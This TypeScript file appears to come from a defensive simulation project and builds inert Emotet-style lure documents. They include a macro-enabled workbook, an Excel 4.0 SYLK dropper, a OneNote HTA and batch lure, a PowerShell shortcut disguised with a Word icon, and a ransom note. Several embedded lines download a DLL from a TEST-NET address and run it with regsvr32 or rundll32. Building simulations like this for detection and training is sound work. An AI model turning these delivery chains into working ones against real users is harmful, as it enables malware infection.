/**
 * Step ② delivery documents besides the Word macro document: an .xlsm whose Workbook_Open runs the same
 * macro, an Excel 4.0 macro sheet in SYLK, a OneNote section with an HTA and a batch file behind "Double
 * click to view" (2023), a shortcut that starts an encoded PowerShell (2022), and the post-infection ransom
 * note. Inert by construction: text that is read, never run; TEST-NET and example.* only.
 */
import {
  buildOoxmlPackage,
  VBA_PROJECT_CONTENT_TYPE,
  VBA_PROJECT_REL,
} from '../../formats/ooxml/index.js';
import { buildLnk } from '../../formats/lnk/index.js';
import { buildOneNote } from '../../formats/onenote/index.js';
import { buildVbaProjectBin } from '../../formats/ovba/index.js';
import { demoMacroModules, encodePowerShell } from './content.js';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const SHEET_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** An .xlsm: ThisWorkbook's Workbook_Open calls the demo's dropper module. */
export function buildDemoXlsm(): Uint8Array {
  const [, dropper] = demoMacroModules();
  const thisWorkbook = [
    'Attribute VB_Name = "ThisWorkbook"',
    "' 明細書 (emoguard デモ: 無害なテキストで、実行されません)",
    'Private Sub Workbook_Open()',
    '    Module1.Syncro',
    'End Sub',
  ].join('\r\n');
  const vba = buildVbaProjectBin({
    modules: [{ name: 'ThisWorkbook', code: thisWorkbook, type: 'document' }, dropper!],
  });
  return buildOoxmlPackage({
    files: {
      'xl/workbook.xml':
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="${SHEET_NS}" ` +
        `xmlns:r="${REL}"><sheets><sheet name="明細" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="${SHEET_NS}"><sheetData/></worksheet>`,
      'xl/vbaProject.bin': vba,
    },
    contentTypes: {
      defaults: { bin: VBA_PROJECT_CONTENT_TYPE },
      overrides: {
        'xl/workbook.xml': 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        'xl/worksheets/sheet1.xml':
          'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
      },
    },
    rels: {
      '': [{ id: 'rId1', type: `${REL}/officeDocument`, target: 'xl/workbook.xml' }],
      'xl/workbook.xml': [
        { id: 'rId1', type: `${REL}/worksheet`, target: 'worksheets/sheet1.xml' },
        { id: 'rId2', type: VBA_PROJECT_REL, target: 'vbaProject.bin' },
      ],
    },
  });
}

/** An inert 2019–2022-style XLM dropper in SYLK: Auto_open, a sandbox check, a download and EXEC. */
export const DEMO_SYLK = [
  'ID;PWXL;N;E',
  'O;E',
  'NN;NAuto_open;ER1C1',
  'C;Y1;X1;K0;EIF(GET.WORKSPACE(19),,CLOSE(TRUE))',
  'C;Y2;X1;K0;ECALL("urlmon","URLDownloadToFileA","JJCCJJ",0,R10C2&R11C2,"C:\\ProgramData\\demo.ocx",0,0)',
  'C;Y3;X1;K0;EEXEC("regsvr32 /s C:\\ProgramData\\demo.ocx")',
  'C;Y4;X1;K0;EHALT()',
  'C;Y10;X2;K"http://198.51.1"',
  'C;Y11;X2;K"00.77/xl/demo.ocx"',
  'E',
  '',
].join('\r\n');

/** The 2023 OneNote lure: "Double click to view" over an HTA and a batch file that fetch the loader. */
export function buildDemoOneNote(): Uint8Array {
  const hta = [
    '<html><head><hta:application id="a" windowstate="minimize"/></head><body><script language="VBScript">',
    "' emoguard demo: inert text, never run",
    'CreateObject("WScript.Shell").Run "cmd /c curl -o %TEMP%\\demo.dll http://198.51.100.77/one/demo.dll & rundll32 %TEMP%\\demo.dll,DllRegisterServer", 0',
    '</script></body></html>',
  ].join('\r\n');
  return buildOneNote({
    files: [
      { name: 'Open.hta', data: hta },
      {
        name: 'invoice.bat',
        data: '@echo off\r\nrem emoguard demo: inert\r\nstart /min mshta "%~dp0Open.hta"\r\n',
      },
    ],
    texts: ['請求書 11月分', 'Double click to view the document'],
  });
}

/** The 2022 shortcut: PowerShell with an encoded download-and-run, a document-looking icon. */
export function buildDemoLnk(): Uint8Array {
  const command =
    '# emoguard demo: inert. $u=\'http://203.0.113.45/lnk/demo.dll\'; (New-Object Net.WebClient).DownloadFile($u, "$env:TEMP\\demo.dll"); Start-Process regsvr32.exe "/s $env:TEMP\\demo.dll"';
  return buildLnk({
    target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    arguments: `${' '.repeat(120)}-NoP -W Hidden -enc ${encodePowerShell(command)}`,
    iconLocation: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    iconIndex: 1,
    showCommand: 7,
  });
}

export const RANSOM_NOTE_NAME = 'README_RESTORE_FILES.txt';
export const RANSOM_NOTE = [
  '--- emoguard demo: an inert stand-in for a ransom note (post-infection) ---',
  'Your files are encrypted. To restore them, contact restore@example.org with your ID: DEMO-0000.',
  'Do not rename the files. (This text is part of an inert simulation; nothing was encrypted.)',
].join('\r\n');
